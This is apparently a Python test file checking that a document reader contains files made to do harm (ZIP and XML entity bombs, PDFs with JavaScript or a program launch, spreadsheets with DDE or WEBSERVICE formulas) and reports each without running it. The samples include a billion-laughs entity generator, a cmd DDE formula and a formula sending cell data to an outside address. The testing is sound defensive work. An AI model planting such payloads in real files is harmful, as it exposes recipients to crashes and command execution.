"""Files made to do harm: each is contained, ends in one clear problem, and stops no other; nothing is fetched."""

from __future__ import annotations

import io
import zipfile

import openpyxl
import pytest

from inlimine.containment.level import Level, level
from inlimine.containment.limits import MEGABYTE, Limits
from inlimine.materials import inside
from inlimine.materials.contents import Contents
from inlimine.materials.formats import pdf as pdf_format
from inlimine.materials.inside import WITHHOLD
from inlimine.materials.mail.parse import parse as parse_mail
from inlimine.materials.read import read_material
from tests.materials.pdf_documents import document, words
from tests.materials.word_documents import paragraph, word, zipped
from tests.readers.pdf_documents import bomb, pdf

LIMITED = pytest.mark.skipif(level() is Level.CLOCK, reason="this system has no limits for a process")
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
BY_ITS_PROGRAM = "open it in the program that made it and save it again."
ANEW = "save it anew from the program that made it."


def problems(name: str, data: bytes) -> list[str]:
    return [str(problem) for problem in read_material(name, data).problems]


def said(name: str, data: bytes) -> list[str]:
    return [reading.text for reading in read_material(name, data).readings]


def entity_bomb(root: str) -> str:
    """Twenty entities, each ten of the one before: 10^20 letters."""
    steps = "".join(f'<!ENTITY {chr(98 + at)} "{f"&{chr(97 + at)};" * 10}">' for at in range(20))
    return f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "a">{steps}]><{root}>&u;</{root}>'


def relation(kind: str, target: str) -> str:
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{RELATIONS}/{kind}" Target="{target}" TargetMode="External"/>'
        "</Relationships>"
    )


def test_a_docx_bomb_is_not_unpacked() -> None:
    data = zipped({"word/document.xml": b"<w:p/>" * (1 << 22)})
    assert problems("o.docx", data) == [
        f"o.docx: a part of the document is packed more than 400 to 1 (a ZIP bomb?); {ANEW}"
    ]


@LIMITED
def test_a_docx_bomb_below_the_ratio_runs_out_of_its_memory(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(inside, "LIMITS", Limits(memory=256 * MEGABYTE))
    (problem,) = problems("o.docx", word("".join(f"<w:p w:a='{at:x}'/>" for at in range(1 << 20))))
    assert "memory" in problem


def test_an_entity_bomb_is_refused() -> None:
    why = "declares XML entities, which no Office file needs"
    asked = "do not open it; ask whoever sent it for a copy saved anew."
    assert problems("o.docx", zipped({"word/document.xml": entity_bomb("w")})) == [
        f"o.docx: the document {why}; {asked}"
    ]
    assert problems("o.pptx", zipped({"ppt/presentation.xml": entity_bomb("p")})) == [
        f"o.pptx: the presentation {why}; {asked}"
    ]


def test_elements_nested_without_end_are_damage() -> None:
    body = "<w:sdt>" * 60_000 + "</w:sdt>" * 60_000
    assert problems("o.docx", word(body)) == [f"o.docx: the document is damaged (TooDeepError); {BY_ITS_PROGRAM}"]


def test_a_docx_that_would_fetch_its_template_is_read_and_told() -> None:
    data = word(
        paragraph("The producer signed."),
        **{"word/_rels/settings.xml.rels": relation("attachedTemplate", "http://192.0.2.1/t.dotm")},
    )
    assert said("o.docx", data) == ["The producer signed."]
    assert problems("o.docx", data) == [
        "o.docx: its program would fetch from outside when it opens it: attachedTemplate (nothing was fetched "
        "here); open it offline, or ask for a copy without these links."
    ]


def test_a_link_that_a_person_must_follow_is_none() -> None:
    data = word(
        paragraph("See there."), **{"word/_rels/document.xml.rels": relation("hyperlink", "http://192.0.2.1/")}
    )
    assert problems("o.docx", data) == []


def test_formulas_are_read_and_never_computed() -> None:
    book = openpyxl.Workbook()
    sheet = book.worksheets[0]
    sheet.title = "List"
    sheet["A1"] = "S-1"
    sheet["A2"] = "=cmd|'/c calc'!A1"
    sheet["A3"] = '=WEBSERVICE("http://192.0.2.1/?"&A1)'
    sheet["A4"] = '="pro"&"ducer"'
    made = io.BytesIO()
    book.save(made)
    (own,) = read_material("l.xlsx", made.getvalue(), own=True).readings
    assert own.text.split("\n")[1:4] == [
        "=cmd|'/c calc'!A1",
        '=WEBSERVICE("http://192.0.2.1/?"&A1)',
        '="pro"&"ducer"',
    ]
    assert said("l.xlsx", made.getvalue()) == ["S-1"]
    assert problems("l.xlsx", made.getvalue()) == [
        "l.xlsx: formulas would call a program, an address or another file: List!A2, List!A3 (none was computed); "
        "open it without its links, or ask for the values alone."
    ]


@pytest.mark.parametrize(
    "action",
    [b"/OpenAction << /S /JavaScript /JS (app.alert) >>", b"/OpenAction << /S /J#61vaScript /J#53 (app.alert) >>"],
    ids=["plain", "escaped"],
)
def test_a_pdf_with_javascript_is_read_and_told(action: bytes) -> None:
    data = document(words("The producer signed."), catalog=action)
    assert said("b.pdf", data) == ["The producer signed."]
    assert problems("b.pdf", data) == [
        "b.pdf: it holds what would act when it is opened: JavaScript (nothing was run here); "
        "print it into a new PDF and use that."
    ]


def test_a_pdf_that_starts_a_program_is_told() -> None:
    data = document(words("Hello."), catalog=b"/OpenAction << /S /Launch /F (calc.exe) >>")
    assert "the start of a program" in problems("b.pdf", data)[0]


@LIMITED
def test_a_pdf_bomb_runs_out_of_its_memory(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(inside, "LIMITS", Limits(memory=256 * MEGABYTE))
    (problem,) = problems("b.pdf", bomb(500))
    assert problem.startswith("b.pdf: its reader broke down or ran out of memory on it;")


def test_a_cyclic_pdf_ends() -> None:
    circle = pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>")
    (problem,) = problems("b.pdf", circle)
    assert problem.startswith("b.pdf: ")


def test_a_zip_bomb_among_files_stops_none_of_them() -> None:
    data = zipped({"bomb.txt": bytes(60 << 20), "opening.txt": "The producer signed."})
    assert said("binder.zip", data) == ["The producer signed."]
    assert problems("binder.zip", data) == [
        "binder.zip/bomb.txt: it is packed more than 400 to 1 (a ZIP bomb?); "
        "unpack it elsewhere and give the file itself."
    ]


def test_a_size_that_the_directory_belies_is_not_trusted() -> None:
    """The directory says 100 bytes; the member holds 60 million."""
    data = zipped({"bomb.txt": bytes(60_000_000)})
    lie = data.replace((60_000_000).to_bytes(4, "little"), (100).to_bytes(4, "little"))
    assert lie != data
    assert problems("binder.zip", lie) == [
        "binder.zip/bomb.txt: it is damaged (BadZipFile); unpack it elsewhere and give the file itself."
    ]


def test_an_archive_that_would_fill_the_disk_is_refused() -> None:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        for number in range(3):
            archive.writestr(f"{number}.bin", b"")
            archive.infolist()[-1].file_size = 500 << 20
    assert problems("binder.zip", made.getvalue()) == [
        "binder.zip: the archive would unpack to more than 1 GB (a ZIP bomb?); "
        "do not open it; ask whoever sent it what it is."
    ]


def test_archives_inside_archives_are_opened_to_a_depth() -> None:
    data = b"The producer signed."
    name = "a.txt"
    for _ in range(6):
        data, name = zipped({name: data}), "a.zip"
    (problem,) = problems("a.zip", data)
    assert problem.endswith("it lies more than 4 files deep in other files; unpack it and give the files in it.")


def test_a_member_that_is_locked_is_told_and_the_others_read() -> None:
    data = zipped({"a.txt": "secret", "b.txt": "The producer signed."})
    local, listed = data.index(b"PK\x03\x04") + 6, data.index(b"PK\x01\x02") + 8
    locked = bytearray(data)
    locked[local] |= 1
    locked[listed] |= 1
    assert said("b.zip", bytes(locked)) == ["The producer signed."]
    assert problems("b.zip", bytes(locked)) == [
        "b.zip/a.txt: it is locked with a password; unpack it elsewhere and give the file itself."
    ]


@pytest.mark.parametrize(
    ("name", "data", "problem"),
    [
        ("o.docx", word(paragraph("x"))[:-30], f"the document is damaged (BadZipFile); {BY_ITS_PROGRAM}"),
        ("b.pdf", document(words("x"))[:60], "the PDF is damaged or breaks off; open it, print it into a new PDF"),
        ("b.zip", zipped({"a.txt": "x"})[:-10], "the archive is damaged (BadZipFile); make it anew, or give"),
        ("a.vtt", b"", "the file is empty; check that the right file was saved."),
        ("a.vtt", b"WEBVTT\n\n", "the subtitles say nothing; check that the right file was saved."),
        ("a.txt", b"abc\x81\x8d", "the bytes are text in no encoding known here"),
        ("o.docx", b"", "the file is empty; check that the right file was saved."),
        ("o.docx", word(""), "the document says nothing; check that the right file was saved."),
        ("o.docx", zipped({"word/document.xml": "<w"}), f"the document is damaged (ParseError); {BY_ITS_PROGRAM}"),
        ("b.zip", zipped({}), "the archive is empty; check that the right file was saved."),
    ],
)
def test_what_is_broken_or_empty_is_told_in_one_line(name: str, data: bytes, problem: str) -> None:
    (line,) = problems(name, data)
    assert line.startswith(f"{name}: {problem}")


def test_a_file_is_known_by_its_content_whatever_its_name() -> None:
    assert said("opening.txt", word(paragraph("The producer signed."))) == ["The producer signed."]
    assert said("list.csv", document(words("The producer signed."))) == ["The producer signed."]
    assert said("photo.png", b"The producer signed.") == ["The producer signed."]


def test_pages_that_are_not_there_are_told_and_never_drawn(monkeypatch: pytest.MonkeyPatch) -> None:
    """The file says 400 pages and has one; a child for each, to recognise letters, would take minutes."""
    data = document(words("The producer signed.")).replace(b"/Count 1 ", b"/Count 400 ")

    def never(name: str, data: bytes, number: int) -> None:
        raise AssertionError("a page that is not there was drawn")

    monkeypatch.setattr(pdf_format, "_recognised_lines", never)
    assert said("b.pdf", data) == ["The producer signed." + "\f" * 399]
    assert problems("b.pdf", data)[0].startswith("b.pdf: no word was found on pages 2-400;")


def test_a_mail_of_ten_thousand_parts_is_read_in_part_and_that_is_told() -> None:
    head = b"Subject: x\nFrom: a\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n"
    part = b"--b\nContent-Type: image/png\nContent-Disposition: attachment; filename=p.png\n\n\x89PNG\n"
    made = parse_mail("m.eml", head + part * 10_000 + b"--b--\n", WITHHOLD)
    assert isinstance(made, Contents)
    assert len(made.members) == 1_000
    assert [str(problem) for problem in made.problems] == [
        "m.eml: it has more than 1,000 parts, of which the first 1,000 were read; "
        "save the files in it and give those."
    ]
